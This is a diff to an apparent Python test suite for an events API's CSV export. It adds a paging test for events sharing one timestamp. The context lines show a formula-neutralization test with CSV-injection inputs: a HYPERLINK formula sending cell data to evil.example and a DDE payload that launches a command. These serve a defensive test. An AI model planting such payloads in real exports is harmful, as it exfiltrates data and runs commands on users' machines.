@@ -206,6 +206,19 @@ async def test_export_csv_content_filters_and_paging(api: Api, dataset: dict[str
     assert [row[0] for row in meta[1:]] == [dataset["demo"]]
 
 
+async def test_export_pages_through_equal_timestamps(api: Api, basic: dict[str, str],
+                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    import leadvibe.api.events as events_api
+
+    monkeypatch.setattr(events_api, "EXPORT_PAGE", 2)  # page boundaries fall between events of one instant
+    sent = [await ingest(api, basic, f"ld_{i % 2}", "page_view", 3) for i in range(5)]
+    sent.append(await ingest(api, basic, "ld_0", "page_view", 4))
+    await wait_idle(api)
+    rows = await csv_rows(api, "/events/export")
+    # newest first; events of the same instant latest arrival first, each exactly once
+    assert [row[0] for row in rows[1:]] == [*reversed(sent[:5]), sent[5]]
+
+
 async def test_export_neutralizes_formula_cells(api: Api, basic: dict[str, str]) -> None:
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     await ingest(api, basic, "=cmd|' /C calc'!A0", "@SUM(1+1)", 1, note=formula, channel="+web")
